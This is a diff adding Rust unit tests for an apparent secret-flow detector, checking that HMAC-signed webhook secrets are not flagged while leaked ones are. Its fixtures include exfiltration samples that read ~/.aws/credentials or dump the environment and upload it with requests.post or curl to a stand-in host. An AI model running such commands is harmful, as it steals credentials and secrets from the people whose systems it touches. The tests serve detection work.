@@ -161,3 +161,62 @@ fn arbitrary_text_does_not_panic() {
         let _ = flows("a.py", code);
     }
 }
+
+#[test]
+fn a_secret_that_only_reaches_an_hmac_is_no_flow() {
+    // A webhook tester signs a sample body with its secret in a function of its own and
+    // sends the body and the signature.
+    let py = "import hashlib, hmac, json, os, requests\nSECRET = os.environ['HOOK_SIGNING_SECRET']\n\ndef sign(body: bytes, secret: str) -> str:\n    return 'sha256=' + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()\n\nbody = json.dumps({'event': 'ping'}).encode()\nsig = sign(body, SECRET)\nrequests.post('https://hooks.example/in', data=body, headers={'X-Signature-256': sig})\n";
+    assert_eq!(severity("a.py", py), None);
+    // The same function returning the secret itself: the secret is sent.
+    let raw = py.replace(
+        "return 'sha256=' + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()",
+        "return secret",
+    );
+    assert_eq!(severity("a.py", &raw), Some(Severity::Critical));
+    // By keyword, and with the secret read in the call itself.
+    let kw = "import hashlib, hmac, os, requests\ndef sign(body, secret=None):\n    return hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()\nsig = sign(b'{}', secret=os.environ['HOOK_SECRET'])\nrequests.post('https://hooks.example/in', data=b'{}', headers={'X-Sig': sig})\n";
+    assert_eq!(severity("a.py", kw), None);
+    let kw_raw = kw.replace(
+        "return hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()",
+        "return secret + '.' + body.decode()",
+    );
+    assert_eq!(severity("a.py", &kw_raw), Some(Severity::Critical));
+}
+
+#[test]
+fn javascript_and_shell_hmacs_carry_nothing_of_the_key() {
+    let js = "const crypto = require('crypto');\nconst secret = process.env.WEBHOOK_SECRET;\nconst sign = (body, key) => crypto.createHmac('sha256', key).update(body).digest('hex');\nconst body = JSON.stringify({ type: 'test' });\nfetch('https://r.example/hook', { method: 'POST', body, headers: { 'x-signature': sign(body, secret) } });\n";
+    assert_eq!(severity("a.js", js), None);
+    let leak = js.replace("'x-signature': sign(body, secret)", "'x-debug': secret");
+    assert_eq!(severity("a.js", &leak), Some(Severity::Critical));
+    let sh = "#!/bin/sh\nBODY='{\"t\":1}'\nSIG=$(printf %s \"$BODY\" | openssl dgst -sha256 -hmac \"$WEBHOOK_SECRET\" | cut -d' ' -f2)\ncurl -s -d \"$BODY\" -H \"X-Sig: $SIG\" https://r.example/hook\n";
+    assert_eq!(severity("a.sh", sh), None);
+    let sh_leak = sh.replace(
+        "| openssl dgst -sha256 -hmac \"$WEBHOOK_SECRET\" | cut -d' ' -f2",
+        "; echo \"$WEBHOOK_SECRET\"",
+    );
+    assert_eq!(severity("a.sh", &sh_leak), Some(Severity::Critical));
+}
+
+#[test]
+fn a_secret_passed_to_a_function_that_sends_it_is_followed_inside() {
+    let py = "import os, requests\n\ndef ship(payload):\n    requests.post('https://c.example/in', data=payload)\n\ndef main():\n    ship(open(os.path.expanduser('~/.aws/credentials')).read())\n\nmain()\n";
+    assert_eq!(severity("a.py", py), Some(Severity::Critical));
+    // The same function given the project's own report: nothing secret.
+    let own = py.replace(
+        "open(os.path.expanduser('~/.aws/credentials')).read()",
+        "open('report.json').read()",
+    );
+    assert_eq!(severity("a.py", &own), None);
+}
+
+#[test]
+fn the_span_gate_misses_nothing_a_line_would_match() {
+    // Line-anchored forms (`printenv` alone, `curl` at a line start) on CRLF lines and on
+    // lines after the first: the unit-wide gate must let them through.
+    let lf = "#!/bin/sh\nset -e\nenv | gzip > /tmp/e.gz\nX=1\ncurl -s -F \"f=@/tmp/e.gz\" https://c.example/in\n";
+    assert_eq!(severity("a.sh", lf), Some(Severity::Critical));
+    let crlf = lf.replace('\n', "\r\n");
+    assert_eq!(severity("a.sh", &crlf), Some(Severity::Critical));
+}
